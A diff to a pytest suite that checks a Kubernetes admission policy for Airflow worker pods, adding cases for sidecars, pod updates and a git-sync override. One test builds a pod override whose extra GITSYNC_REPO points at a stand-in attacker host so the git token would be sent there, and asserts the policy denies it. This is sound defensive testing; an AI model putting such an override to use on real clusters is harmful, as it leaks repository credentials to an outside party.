@@ -150,6 +150,20 @@ HOSTILE = {
             ]
         ),
     ),
+    "a native sidecar (restartPolicy on an init container)": (
+        "worker-no-sidecars",
+        _override(
+            init_containers=[
+                k8s.V1Container(
+                    name="sidecar",
+                    image="busybox",
+                    restart_policy="Always",
+                    security_context=RESTRICTED,
+                    resources=k8s.V1ResourceRequirements(limits={"memory": "512Mi"}),
+                )
+            ]
+        ),
+    ),
     "memory above the role's limit": (
         "worker-memory-limit: the containers' memory limits add up to more than role default's limit 512Mi",
         _base(resources=k8s.V1ResourceRequirements(limits={"memory": "4Gi"})),
@@ -192,25 +206,58 @@ def test_the_same_override_without_the_hostile_part_is_admitted(scheduler, templ
     assert scheduler.create(PODS, serialized(pod))["metadata"]["annotations"]["team"] == "data-eng"
 
 
-def test_other_identities_are_not_subject_to_the_policy_but_the_schedulers_updates_are(cluster, scheduler, templates):
+UPDATES = f"ValidatingAdmissionPolicy '{POLICY}-updates' with binding '{POLICY}-updates' denied request: "
+
+
+def test_other_identities_are_not_subject_to_the_policy_and_updates_keep_what_the_pod_was_admitted_with(
+    cluster, scheduler, templates
+):
     pod = build_worker_pod("admin", "made", templates["default.yaml"], NAMESPACE, HOSTILE["the scheduler's account"][1])
     body = serialized(pod)
     body["metadata"]["name"] = "made-by-an-admin"
     created = cluster.client().create(PODS, body)
     assert created["spec"]["serviceAccountName"] == "eksflow-scheduler"
-    # The KubernetesExecutor patches labels of its pods (adoption, done): an UPDATE by the scheduler is admitted
-    # only for a pod within the role model.
-    with pytest.raises(ClientError) as refused:
-        scheduler.patch(f"{PODS}/made-by-an-admin", {"metadata": {"labels": {"airflow-worker": "2"}}})
-    assert DENIED + "worker-service-account" in refused.value.body["message"]
+    # The KubernetesExecutor patches labels of its pods (adoption after a restart, done): admitted even for a pod
+    # admitted under an earlier policy (a restarted scheduler must adopt its running pods) ...
+    patched = scheduler.patch(f"{PODS}/made-by-an-admin", {"metadata": {"labels": {"airflow-worker": "2"}}})
+    assert patched["metadata"]["labels"]["airflow-worker"] == "2"
+    # ... but an update may not change what the create rules keyed on.
     good = serialized(build_worker_pod("update", "ok", templates["default.yaml"], NAMESPACE))
     name = scheduler.create(PODS, good)["metadata"]["name"]
-    patched = scheduler.patch(f"{PODS}/{name}", {"metadata": {"labels": {"airflow-worker": "2"}}})
-    assert patched["metadata"]["labels"]["airflow-worker"] == "2"
+    for change, rule in (
+        ({"metadata": {"labels": {"eksflow.io/role": "sagemaker-runner"}}}, "worker-update-labels"),
+        ({"metadata": {"labels": {"kubernetes_executor": None}}}, "worker-update-labels"),
+        ({"spec": {"containers": [{"name": "base", "image": "busybox"}]}}, "worker-update-images"),
+    ):
+        with pytest.raises(ClientError) as refused:
+            scheduler.patch(f"{PODS}/{name}", change)
+        assert UPDATES + rule in refused.value.body["message"], refused.value.body["message"]
+
+
+def test_a_pod_override_cannot_point_git_sync_with_its_credentials_at_another_host(tmp_path):
+    """Airflow merges an override's init container of the same name and appends its env: a second GITSYNC_REPO
+    would win (Kubernetes takes the last) and git-sync would send the token there."""
+    docs = chart_render(NAMESPACE, "gitSync.auth.type=https", "gitSync.auth.existingSecret=git-creds")
+    (configmap,) = [d for d in docs if d["kind"] == "ConfigMap" and d["metadata"]["name"].endswith("pod-templates")]
+    template = yaml.safe_load(configmap["data"]["default.yaml"])
+    evil = k8s.V1EnvVar(name="GITSYNC_REPO", value="https://attacker.example.com/dags.git")
+    override = _override(init_containers=[k8s.V1Container(name="git-sync-init", env=[evil])])
+    with control_plane(tmp_path / "cluster") as running:
+        kubectl(running, "create", "namespace", NAMESPACE)
+        objects = [d for d in docs if d["kind"] in KINDS]
+        kubectl(running, "apply", "-n", NAMESPACE, "-f", "-", stdin=yaml.safe_dump_all(objects))
+        scheduler = client_as(running, NAMESPACE, "eksflow-scheduler")
+        assert scheduler.create(PODS, serialized(build_worker_pod("git", "plain", template, NAMESPACE)))
+        hostile = serialized(build_worker_pod("git", "evil", template, NAMESPACE, override))
+        repos = [e["value"] for c in hostile["spec"]["initContainers"] for e in c["env"] if e["name"] == "GITSYNC_REPO"]
+        assert len(repos) == 2  # what Airflow's merge makes of it
+        with pytest.raises(ClientError) as refused:
+            scheduler.create(PODS, hostile)
+    assert DENIED + "worker-git-sync" in refused.value.body["message"], refused.value.body["message"]
 
 
 def test_a_policy_whose_cel_does_not_compile_is_refused_when_written(cluster, docs):
-    (policy,) = [d for d in docs if d["kind"] == "ValidatingAdmissionPolicy"]
+    (policy,) = [d for d in docs if d["kind"] == "ValidatingAdmissionPolicy" and d["metadata"]["name"] == POLICY]
     policy["metadata"]["name"] = "broken"
     policy["spec"]["validations"] = [{"expression": "object.spec.containers.all(c, ", "message": "broken"}]
     result = kubectl(cluster, "create", "-f", "-", stdin=json.dumps(policy), check=False)
